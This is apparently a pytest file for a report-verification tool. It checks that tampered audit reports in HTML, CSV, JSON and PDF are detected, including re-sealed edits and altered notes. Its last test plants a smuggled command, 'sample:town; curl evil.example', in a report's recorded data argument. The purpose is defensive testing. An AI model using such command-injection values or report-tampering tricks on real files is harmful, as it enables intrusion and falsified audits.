"""What `uge verify` finds in each format of a report, as it was made and as somebody changed it."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections import Counter
from dataclasses import replace

import pytest
from campaigns import reports as campaign
from campaigns.reports import Bench, attacks, json_sealed_anew, page_sealed_anew, pdf_sealed_anew, table_sealed_anew

import uge_core as uge
from uge_core.audit.record import seal
from uge_core.cli.main import run as uge_command
from uge_core.errors import ConfigError, RecordError
from uge_core.explore.whatif.edits import DropEdges
from uge_core.explore.whatif.scenario import Scenario, Scenarios
from uge_core.runs.notes import pin_note
from uge_core.runs.verify import exit_code
from uge_core.views.report import Sheet, pieces, printed, recipe, table


@pytest.fixture(scope="module")
def bench(tmp_path_factory):
    return Bench.set_up(tmp_path_factory.mktemp("bench"))


@pytest.fixture(scope="module")
def html(bench):
    return bench.made("html").decode()


def named(findings):
    """What is wrong, by what was checked."""
    return {f.what: f.text for f in findings if f.code}


@pytest.mark.parametrize("name", ["html", "csv", "json"])
def test_a_report_as_it_was_made_is_equal(bench, name):
    findings = bench.found(bench.made(name))
    assert exit_code(findings) == 0, named(findings)
    assert Counter(f.what for f in findings)["audit"] == 2
    assert ("figures" if name != "json" else "scenario") in {f.what for f in findings}


QUICK = ("a figure of a table", "a cell of a heat map", "two rows swapped")


@pytest.mark.parametrize("name", [n if n in QUICK else pytest.param(n, marks=pytest.mark.slow) for n in attacks()])
def test_a_page_that_was_changed_and_sealed_anew_is_found_by_its_figures(bench, html, name):
    changed = attacks()[name](html)
    assert changed != html
    found = named(bench.found(page_sealed_anew(changed).encode()))
    assert set(found) == {"figures"}, found
    assert "the report says" in found["figures"] and "it should say" in found["figures"]


def test_the_first_figure_that_was_changed_is_named_with_its_place(bench, html):
    changed = attacks()["a figure of a table"](html)
    findings = bench.found(changed.encode())
    assert exit_code(findings) == 1 and set(named(findings)) == {"content", "figures"}
    said = named(findings)["figures"]
    place = r"Appendix: all embeddings, table '\w+', row \d \(No debiasing\), AUC"
    assert re.fullmatch(place + r": the report says '[\d.]+', it should say '[\d.]+'", said), said


def test_what_no_reader_sees_is_no_fault(bench, html):
    place = re.search(r'id="records">(.*?)</script>', html, re.DOTALL)
    records = [dict(reversed(record.items())) for record in json.loads(place[1])]
    other = html[: place.start(1)] + json.dumps(records, indent=3).replace("<", "\\u003c") + html[place.end(1) :]
    other = other.replace("<tr><td>", "<tr>\n   <td> ").replace("</td></tr>", "  </td>\r\n</tr>")
    assert other != html and exit_code(bench.found(other.encode())) == 0
    text = bench.made("json").decode()
    again = json.dumps([dict(reversed(r.items())) for r in json.loads(text)])
    assert exit_code(bench.found(again.encode())) == 0
    lines = bench.made("csv").decode("utf-8-sig").replace("\r\n", "\n\n")
    assert exit_code(bench.found(lines.encode())) == 0


def cells(bench):
    return list(csv.reader(io.StringIO(bench.made("csv").decode("utf-8-sig"), newline="")))


def as_csv(lines):
    out = io.StringIO(newline="")
    csv.writer(out).writerows(lines)
    return out.getvalue()


def test_a_table_that_was_changed_is_found_by_line_and_column(bench):
    lines = cells(bench)
    value, head = lines[0].index("value"), lines[0]
    for name, other, said in (
        (
            "a digit",
            [*lines[:3], [*lines[3][:value], "0.123", *lines[3][value + 1 :]], *lines[4:]],
            "value: the report",
        ),
        ("two lines", [*lines[:3], lines[4], lines[3], *lines[5:]], "line 4"),
        ("a line less", [*lines[:3], *lines[4:]], "line 4"),
        ("a line more", [*lines[:3], lines[3], *lines[3:]], "line 5"),
        (
            "an answer",
            [x if x[3] != "scenario, after" else [*x[:value], "0.5", *x[value + 1 :]] for x in lines],
            "value",
        ),
        ("a column", [[*line, "x"] for line in lines], "line 1"),
    ):
        for text in (as_csv(other), table_sealed_anew(as_csv(other))):
            findings = bench.found(text.encode())
            assert exit_code(findings) == 1 and said in named(findings)["figures"], (name, named(findings))
    # The same number in other digits is no other figure.
    longer = [*lines[:3], [*lines[3][:value], lines[3][value] + "0", *lines[3][value + 1 :]], *lines[4:]]
    found = named(bench.found(table_sealed_anew(as_csv(longer)).encode()))
    assert not found and head[value] == "value"


def test_a_record_that_was_changed_and_a_scenarios_answer(bench):
    content = json.loads(bench.made("json"))
    content[1]["rows"][2]["value"] = 0.123
    findings = bench.found(json_sealed_anew(content).encode())
    assert exit_code(findings) == 1 and "row 3 of" in named(findings)["audit"]
    assert {f.about for f in findings if f.code} == {f"run {bench.runs[1]}"}
    content = json.loads(bench.made("json"))
    content[-1]["results"][0]["rows"][0]["after"]["value"] = 0.8
    findings = bench.found(json.dumps(content).encode())
    assert exit_code(findings) == 1 and set(named(findings)) == {"sha256", "scenario"}
    assert "after, value: the report says '0.8', it should say '0.88'" in named(findings)["scenario"]
    # Sealed anew it may be what the store kept before somebody asked again.
    findings = bench.found(json_sealed_anew(content).encode())
    assert exit_code(findings) == 3 and "'0.8'" in named(findings)["scenario"]


def test_where_runs_are_gone_the_file_is_still_held_against_itself(bench, html, tmp_path):
    empty = Bench(tmp_path, uge.RunStore(tmp_path / "none"), bench.scenario, bench.runs)
    for name in ("html", "csv", "json"):
        findings = empty.found(bench.made(name))
        assert exit_code(findings) == 3, named(findings)
        assert all("no run" in text or "scenario" in text for text in named(findings).values()), named(findings)
    for text in (attacks()["a sentence"](html), bench.made("csv").decode().replace("0.", "1.", 1)):
        findings = empty.found(text.encode())
        assert exit_code(findings) == 1 and "changed after it was written" in named(findings)["content"]


def test_what_cannot_be_made_anew_is_said(bench, html, tmp_path, monkeypatch):
    changed = page_sealed_anew(attacks()["a figure of a table"](html)).encode()
    monkeypatch.setattr(recipe, "maker", lambda: "another")
    assert exit_code(bench.found(bench.made("html"))) == 0
    findings = bench.found(changed)
    assert exit_code(findings) == 3 and "another version of this package" in named(findings)["figures"]
    monkeypatch.undo()
    store = uge.RunStore(
        shutil.copytree(bench.store.root, tmp_path / "store", ignore=shutil.ignore_patterns("*.sock", "*.pid"))
    )
    record = store.load(bench.runs[0]).audit
    store.save_audit(
        bench.runs[0], seal({k: v for k, v in record.items() if k != "policy"} | {"rows": record["rows"][1:]})
    )
    later = Bench(tmp_path, store, bench.scenario, bench.runs)
    findings = later.found(bench.made("csv"))
    assert exit_code(findings) == 3 and "audited again since" in named(findings)["figures"]
    Scenarios(store).delete(bench.scenario)
    findings = later.found(bench.made("json"))
    assert "no scenario" in named(findings)["scenario"]


def test_a_report_of_an_earlier_version_and_what_is_none(bench, html):
    start, found, _ = html.rpartition('<script type="application/json" id="recipe">')
    old = start + "</body></html>"
    findings = bench.found(old.encode())
    assert found and exit_code(findings) == 3 and set(named(findings)) == {"content"}
    lines = cells(bench)
    for content, said in (
        (as_csv(lines[:-1]).encode(), "does not say how it was made"),
        (b"%PDF-1.7\njunk\n%%EOF\n", "does not say how it was made"),
        (b"<!doctype html><p>hello</p>", "holds no audit"),
        (b"<!doctype html><![if x", "holds no audit|markup is broken"),
        (b"<!doctype html>\xff", "not UTF-8"),
        (b"hello", "no JSON of ours"),
    ):
        with pytest.raises(RecordError, match=said):
            bench.found(content)
    card = recipe.Recipe("", {}, {"x": "y"})
    findings = bench.found(pdf_sealed_anew(b"%PDF-1.7\njunk\nstartxref\n5\n%%EOF\n", card))
    assert exit_code(findings) == 1 and "the PDF cannot be read" in named(findings)["figures"]
    content = json.loads(bench.made("json"))
    del content[-1]["record_sha256"], content[-1]["warning"]
    findings = bench.found(json.dumps(content).encode())
    assert exit_code(findings) == 3 and set(named(findings)) == {"sha256"}, named(findings)
    # What is no number of JSON stops nothing.
    odd = re.sub(r'id="records">\[', 'id="records">[NaN, 1e999, {"a": 1, "a": 2}, ', html)
    assert odd != html and exit_code(bench.found(odd.encode())) == 1


def printed_lines(page, width=40):
    """The page as a printer may break it: 60 lines a page, heads again, each page's foot first."""
    body = printed._body(page)
    lines = [p.content[i : i + width] for p in body for i in range(0, len(p.content), width)]
    out = [lines[i : i + 60] for i in range(0, len(lines), 60)]
    return [[f"Page {i} of {len(out)}{printed._foot(page)}", *one] for i, one in enumerate(out, start=1)]


def test_the_text_of_a_print_is_held_against_the_page(html):
    page = pieces.pieces(html)
    lines = printed_lines(page)
    assert printed.first_difference(lines, page) is None
    on, at, line = next(
        (k, i, x) for k, one in enumerate(lines) for i, x in enumerate(one[:-1]) if re.fullmatch(r"0\.\d{3}", x)
    )
    for change, said in (
        (lambda lines: lines[on].__setitem__(at, line[:-1] + str((int(line[-1]) + 1) % 10)), f"it should say '{line}'"),
        (lambda lines: lines[on].pop(at), "the report says"),
        (lambda lines: lines[on].insert(at, line), "the report says"),
        (lambda lines: lines[-1].pop(), "missing in the PDF"),
        (lambda lines: lines[0].append("0.2 0.4"), "the report says"),
        (lambda lines: lines.pop(), "its foot"),
        (lambda lines: lines[1].__setitem__(0, lines[0][0]), "page 2, its foot: the report says 'Page 1 of"),
        (lambda lines: lines[1].__setitem__(0, re.sub("Records .", "Records x", lines[1][0])), "page 2, its foot"),
    ):
        other = [list(one) for one in lines]
        change(other)
        assert said in (printed.first_difference(other, page) or ""), said


def test_without_its_reader_a_pdf_is_refused_with_the_remedy(monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "pypdf", None)
    with pytest.raises(ConfigError, match="pip install pypdf"):
        printed.pages(b"%PDF-1.7")


@pytest.mark.browser
def test_a_pdf(chromium, monkeypatch, tmp_path):
    monkeypatch.setenv("BROWSER_PATH", chromium)
    made = Bench.set_up(tmp_path, ("pdf",))
    findings = made.found(made.made("pdf"))
    assert exit_code(findings) == 0, named(findings)
    import random

    for name, fault in [*campaign._gone(made), *campaign._pdf(made, random.Random(0), 4)]:
        assert fault is None, (name, fault)


@pytest.mark.slow
def test_each_format_is_measured_anew_from_the_command_line(seeded, tmp_path, capsys):
    store = uge.RunStore(shutil.copytree(seeded, tmp_path / "copy", ignore=shutil.ignore_patterns("*.sock", "*.pid")))
    run = next(r for r in store.list() if r.config["method"] == "none")
    uge.report([run.id], tmp_path / "made", formats=["html", "csv", "json"], store=store)
    for name in ("html", "csv"):
        # Whatever it is called.
        file = (tmp_path / "made" / f"report.{name}").rename(tmp_path / "made" / f"{name}-report")
        assert uge_command(["verify", str(file), "--store", str(store.root)]) == 0
        out = capsys.readouterr().out
        assert "measured anew from the embedding" in out and "figures: equal" in out
    # What was changed in the store with a SHA-256 of its own is found all the same.
    record = json.loads(json.dumps(run.audit))
    record["rows"][0]["value"] += 0.01
    store.save_audit(run.id, seal(record))
    uge.report([run.id], tmp_path / "made", formats=["csv"], store=store)
    changed = str(tmp_path / "made" / "report.csv")
    assert uge_command(["verify", changed, "--store", str(store.root), "--quick"]) == 0
    assert uge_command(["verify", changed, "--store", str(store.root)]) == 1
    assert "row 1 of" in capsys.readouterr().out


@pytest.mark.slow
def test_a_few_trials_of_the_campaign(monkeypatch):
    assert [(name, fault) for name, fault in campaign.run(3, quick=True) if fault] == []


def test_the_recipe_reads_back(bench):
    _, line = table.lines(bench.made("csv").decode("utf-8-sig"))
    card, _, sealed = recipe.read(line)
    assert sealed and list(card.runs) == bench.runs and list(card.scenarios) == [bench.scenario]
    assert (card.sheet["title"], card.sheet["author"]) == ("Audit of a town", "A. Uditor")
    # As an earlier version wrote it.
    told = json.loads(line)
    earlier = {k: v for k, v in told.items() if k not in ("sheet", "chosen")} | {
        "title": "A",
        "author": "B",
        "purpose": "",
    }
    assert recipe.read(json.dumps(earlier))[0].sheet == {"title": "A", "author": "B", "purpose": ""}
    with pytest.raises(RecordError, match="uge-report/1"):
        recipe.read('{"schema": "uge-report/2"}')
    assert recipe.read(line.replace("A. Uditor", "B. Uditor"))[2] is False


def test_a_scenario_that_names_people_is_written_only_when_asked(bench, tmp_path):
    kept = Scenarios(bench.store)
    named = Scenario(kept.load(bench.scenario).scenario.data, (DropEdges((("p1", "p2"),)),), "without a friend")
    scenario = kept.save(named)
    try:
        with pytest.raises(ConfigError, match=r"'without a friend' is sensitive personal data.*--sensitive-output"):
            uge.report(bench.runs[:1], tmp_path / "made", scenarios=[scenario], store=bench.store)
        assert not (tmp_path / "made").exists()
        given = {"scenarios": [scenario], "store": bench.store, "sensitive_output": True}
        for path in uge.report(bench.runs[:1], tmp_path / "made", formats=["html", "json", "csv"], **given):
            text = path.read_text(encoding="utf-8-sig")
            assert "Sensitive personal data: the edits name people" in text and path.stat().st_mode & 0o777 == 0o600
            assert exit_code(bench.found(path.read_bytes())) == 0
    finally:
        kept.delete(scenario)


def test_words_that_are_no_utf8_are_written_and_checked(bench, tmp_path):
    sheet = Sheet("of \udcff", "A. \ud800", "why \udc80")
    html, csv_file = uge.report(
        bench.runs[:1], tmp_path / "made", sheet=sheet, store=bench.store, formats=["html", "csv"]
    )
    assert "of \\udcff" in html.read_text()
    assert exit_code(bench.found(csv_file.read_bytes())) == 0


@pytest.mark.parametrize("name", ["html", "csv"])
@pytest.mark.parametrize("where", ["title", "made", "runs", "maker"])
def test_half_a_character_in_a_recipe_is_no_crash(bench, name, where):
    said = bench.made(name).decode("utf-8-sig")
    quote = '""' if name == "csv" else '"'
    start = {"runs": f"{quote}runs{quote}:{{{quote}"}.get(where, f"{quote}{where}{quote}:{quote}")
    before, found, after = said.rpartition(start)
    assert found
    found = named(bench.found(f"{before}{start}\\ud800{after}".encode()))
    assert "cannot be read" in found["content"]


def test_the_recipe_of_very_many_runs_is_read_and_the_limit_stays():
    before, cell = csv.field_size_limit(), "x" * 200_000
    head = table.rows_csv([])
    assert table.lines(table.with_recipe(head, cell)) == ([table.COLUMNS], cell)
    assert csv.field_size_limit() == before
    with pytest.raises(RecordError, match="cannot be read"):
        table.lines('a,"b')
    assert csv.field_size_limit() == before


def told_otherwise(html, old, new, **changes):
    """The page with a text in the place of another, and a recipe that says so, sealed anew."""
    assert old in html
    start, found, end = html.replace(old, new).rpartition(f'id="{pieces.RECIPE}">')
    line, close, rest = end.partition("</script>")
    card = recipe.read(line)[0]
    line = replace(card, **{k: {**getattr(card, k), **v} for k, v in changes.items()}).sealed("")
    return page_sealed_anew(start + found + line + close + rest)


def test_a_note_that_is_not_the_stores_is_told(bench, tmp_path):
    store = uge.RunStore(
        shutil.copytree(bench.store.root, tmp_path / "store", ignore=shutil.ignore_patterns("*.sock", "*.pid"))
    )
    here = Bench(tmp_path, store, bench.scenario, bench.runs)
    run_id = bench.runs[0]
    pin_note(store, run_id, "rejected by the board")
    (path,) = uge.report(bench.runs, tmp_path / "r.html", store=store)
    html = path.read_text()
    assert exit_code(here.found(html.encode())) == 0
    changed = told_otherwise(
        html, "rejected by the board", "passed by the board", notes={run_id: "passed by the board"}
    )
    findings = here.found(changed.encode())
    assert exit_code(findings) == 3 and set(named(findings)) == {"note"}
    assert named(findings)["note"].startswith(f"the note of run {run_id} is not what the store holds now")
    # One that was taken away since, or put there.
    pin_note(store, run_id, "")
    assert "holds none now" in named(here.found(html.encode()))["note"]
    pin_note(store, bench.runs[1], "new")
    (about,) = [f.about for f in here.found(bench.made("html")) if f.what == "note"]
    assert about == f"run {bench.runs[1]}"
    # A table prints none, and a store without the runs has none to compare with.
    assert exit_code(here.found(bench.made("csv"))) == 0
    empty = Bench(tmp_path, uge.RunStore(tmp_path / "none"), bench.scenario, bench.runs)
    assert "note" not in named(empty.found(html.encode()))


@pytest.mark.parametrize("others", [{}, {"attribute": "nothing that was audited"}])
def test_a_command_that_names_other_data_than_the_runs_is_found(bench, html, others):
    data = "sample:town; curl evil.example"
    changed = told_otherwise(html, "--data sample:town", f"--data {data}", chosen={"data": data, **others})
    findings = bench.found(changed.encode())
    assert (exit_code(findings) == 1 and "figures" not in named(findings)) or others
    assert repr(data) in named(findings)["command"] and "'sample:town'" in named(findings)["command"]
